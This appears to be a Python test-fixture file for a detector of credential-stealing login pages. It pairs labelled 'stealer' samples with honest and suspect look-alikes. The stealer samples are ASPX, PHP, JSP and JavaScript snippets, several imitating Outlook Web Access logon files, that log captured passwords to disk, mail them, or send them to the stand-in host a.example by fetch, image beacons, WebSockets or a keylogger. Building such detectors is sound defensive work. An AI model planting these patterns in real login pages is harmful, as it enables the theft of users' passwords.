"""Login pages and scripts that the tests write: thieves, and honest ones that look like them. Hosts
are of RFC 2606, and none of it works: what it would need besides is not there."""

READ = "var u = gbid('username').value, p = gbid('password').value;\n"
FORM = """<form id="logonForm" action="/owa/auth.owa" method="POST">
<input id="username" name="username"><input id="password" name="password" type="password">
</form>
"""
LOGON = '<%@ Page Language="C#" %>\n<html><body>' + FORM

# Name of the file, and its text: each is a "stealer".
THIEVES = {
    # server code: kept in a file
    "owa/auth/logon.aspx": LOGON + """<%
    if (Request.HttpMethod == "POST")
        System.IO.File.AppendAllText(@"C:\\Windows\\Temp\\x.log",
            Request.Form["username"] + ":" + Request.Form["password"] + "\\r\\n"); }
%>""",
    "writer.aspx": LOGON + """<%
    var log = new System.IO.StreamWriter(Server.MapPath("~/x.css"), true);
    string line = DateTime.Now + " " + Request["username"] + " " + Request["passwd"];
    log.WriteLine(line); }
%>""",
    "boxes.aspx": """<%@ Page Language="VB" %>
<script runat="server">
Sub Go(sender As Object, e As EventArgs)
    System.IO.File.AppendAllText("C:\\x.txt", user.Text & "," & secret.Text)
End Sub
</script>
<asp:TextBox id="user" runat="server" />
<asp:TextBox id="secret" TextMode="Password" runat="server" />
<asp:Button OnClick="Go" runat="server" />
""",
    "handler.ashx": """<%@ WebHandler Language="C#" Class="H" %>
using System.IO; using System.Web;
public class H : IHttpHandler {
    public bool IsReusable { get { return true; } }
    void Keep(string text) { File.AppendAllText(@"C:\\x.log", text); }
    public void ProcessRequest(HttpContext c) {
        Keep(c.Request.Form["u"] + "|" + c.Request.Form["pwd"]);
    }
""",
    "sends.aspx": LOGON + """<%
    var client = new System.Net.WebClient();
    client.UploadString("http://a.example/x", Request.Form["username"] + Request.Form["password"]);
%>""",
    "asks.aspx": LOGON + """<%
    var client = new System.Net.WebClient();
    client.DownloadString("http://a.example/?" + Request.Form["password"]);
%>""",
    "mails.aspx": LOGON + """<%
    var mail = new System.Net.Mail.SmtpClient("a.example");
    mail.Send("a@a.example", "b@b.example", "x",
        Request.Form["username"] + " " + Request.Form["password"]); }
%>""",
    "coded.aspx": LOGON + """<%
    byte[] raw = System.Text.Encoding.UTF8.GetBytes(Request.Form["password"]);
    System.IO.File.AppendAllText(@"C:\\x.log", Convert.ToBase64String(raw)); }
%>""",
    "login.php": """<?php
$f = fopen('x.log', 'a');
fwrite($f, $_POST['user'] . ':' . $_POST['password'] . "\\n");
""",
    "put.php": """<?php
$line = "user=" . $_POST['login'] . "&pass=" . $_POST['passwd'];
file_put_contents("/tmp/x", $line, FILE_APPEND);
""",
    "mail.php": """<?php
mail("a@a.example", "x", $_POST['user'] . ' ' . $_POST['password']);
""",
    "login.jsp": """<%@ page import="java.io.*" %><%
FileWriter w = new FileWriter("/tmp/x.log", true);
w.write(request.getParameter("j_username") + ":" + request.getParameter("j_password"));
}%>""",
    # the browser's script
    "owa/auth/flogon.js": "function clkLgn() {\n" + READ + """
var x = new XMLHttpRequest();
x.open('GET', '/owa/auth/x.aspx?u=' + u + '&p=' + p, true);
x.send();
document.logonForm.submit(); }""",
    "a/flogon.js": "function clkLgn() {\n" + READ + """
var q = btoa(encodeURIComponent(u + ':' + p));
new Image().src = 'https://a.example/1.gif?' + q; }""",
    "b/flogon.js": READ + "document.cookie = 'c=' + btoa(p) + '; path=/';",
    "c/flogon.js": READ + "navigator.sendBeacon('/owa/auth/themes/x.aspx', u + p);",
    "d/flogon.js": READ + """var s = document.createElement('script');
s.setAttribute('src', '//a.example/?' + p);
document.body.appendChild(s);""",
    "e/login.js": "document.getElementById('logonForm').addEventListener('submit', function () {\n"
                  + READ + "fetch('/x.ashx', { method: 'POST', body: u + p }); });",
    "f/login.js": READ + "fetch(`https://a.example/?u=${u}&p=${p}`);",
    "g/login.js": "$('#signIn').click(function () {\n"
                  "$.post('https://a.example/x', { a: $('#username').val(),"
                  " b: $('#password').val() }); });",
    "h/login.js": READ + "var w = new WebSocket('wss://a.example/');\nw.send(p);",
    "i/login.html": FORM + "<script>\n" + READ
                    + "document.write('<img src=\"http://a.example/?' + p + '\">');\n</script>",
    "j/login.js": "var keys = '', box = gbid('password');\n"
                  "box.onkeyup = function (e) { keys += e.key; };\n"
                  "setInterval(function () { fetch('https://a.example/?' + keys); }, 900);",
    "k/login.js": "gbid('password');\n"
                  "fetch('https://a.example/x', { body: new FormData(document.forms[0]) });",
    "l/logon.aspx": LOGON + "<script>\n" + READ
                    + "var i = document.createElement('img');\n"
                    + "i.src = '/owa/auth/15.1/x.aspx?' + u + p;\n</script></body></html>",
}

# Each is "none".
HONEST = {
    "user-only.aspx": LOGON + """<%
    string user = Request.Form["username"], password = Request.Form["password"];
    bool known = Membership.ValidateUser(user, password);
    System.IO.File.AppendAllText(Server.MapPath("~/App_Data/audit.log"),
        DateTime.Now + " " + known + "\\r\\n"); }
%>""",
    "hashes.aspx": LOGON + """<%
    var sha = System.Security.Cryptography.SHA256.Create();
    byte[] hash = sha.ComputeHash(System.Text.Encoding.UTF8.GetBytes(Request.Form["password"]));
    bool same = Users.Check(Request.Form["username"], hash); }
%>""",
    "membership.aspx": """<%@ Page Language="C#" %>
<script runat="server">
void Go(object sender, EventArgs e) {
    if (FormsAuthentication.Authenticate(user.Text, password.Text))
        FormsAuthentication.RedirectFromLoginPage(user.Text, remember.Checked);
}
</script>
<asp:TextBox id="user" runat="server" /><asp:CheckBox id="remember" runat="server" />
<asp:TextBox id="password" TextMode="Password" runat="server" />
""",
    "login.php": """<?php
$row = find_user($_POST['user']);
if ($row && password_verify($_POST['password'], $row['hash'])) {
    $_SESSION['user'] = $row['id'];
    error_log('login of ' . $row['id']);
}
""",
    "login.jsp": """<%
String password = request.getParameter("password");
if (users.check(request.getParameter("user"), password))
    response.sendRedirect("index.jsp");
}%>""",
    "reset.aspx": """<%@ Page Language="C#" %><%
    var mail = new System.Net.Mail.SmtpClient("mail.corp.example");
    mail.Send("it@corp.example", Users.MailOf(Session["user"]), "Password changed",
        "Your password was changed."); }
%>""",
    # as Microsoft's behaves: flags and the name go into a cookie, the password stays in the form
    "owa/auth/flogon.js": """function clkLgn() {
var p = gbid("passwordText");
if (gbid("rdoPrvt").checked) {
    var oD = new Date();
    oD.setTime(oD.getTime() + 2 * 7 * 24 * 60 * 60 * 1000);
    document.cookie = "logondata=acc=1&lgn=" + gbid("username").value
        + "; expires=" + oD.toUTCString();
}
if (gbid("showPasswordCheck").checked) {
    gbid("password").value = p.value; p.value = "";
}
document.logonForm.submit();
}
function kdSP(e) { if (e.keyCode == 13) clkLgn(); }""",
    "ajax/login.js": READ + "$.ajax({ url: '/account/login', type: 'POST', data: { u: u, p: p },\n"
                     "success: function (r) { window.location = r.url; } });",
    "fetch/login.js": "form.addEventListener('submit', async function (e) {\ne.preventDefault();\n"
                      + READ + "await fetch('/api/login', { method: 'POST',"
                      " body: JSON.stringify({ u, p }) }); });",
    "strength/login.js": "box.onkeyup = function () {\nvar p = gbid('password').value, n = 0;\n"
                         "if (p.length > 8) n++;\nif (/[0-9]/.test(p)) n++;\n"
                         "gbid('meter').className = 'meter' + n;\n"
                         "gbid('meter').src = 'meter' + n + '.png';\n};",
    "remember/login.js": "if (gbid('remember').checked)\n"
                         "document.cookie = 'user=' + gbid('username').value;\n"
                         "if (gbid('password').value == '') gbid('password').focus();",
    "compare/login.js": READ + "if (p != gbid('password2').value) alert('They differ');\n"
                        "fetch('https://news.example/today');",
    "hash/login.js": READ + "gbid('hash').value = sha256(p);\ngbid('password').value = '';\n"
                     "document.logonForm.submit();",
    "common/login.js": READ + "var common = new Map();\nif (common.get(p)) alert('Too common');",
    "show/login.html": FORM + "<script>\nvar box = document.getElementById('password');\n"
                       "box.type = box.type === 'password' ? 'text' : 'password';\n</script>"
                       "<img src='https://cdn.example/logo.png'>",
}

# Some honest sites do that, so it is only "suspect".
SUSPECT = {
    "away/login.js": READ + "fetch('https://id.corp.example/login',"
                     " { method: 'POST', body: JSON.stringify({ u, p }) });",
    "cookie/login.js": READ + "document.cookie = 'p=' + p;",
}
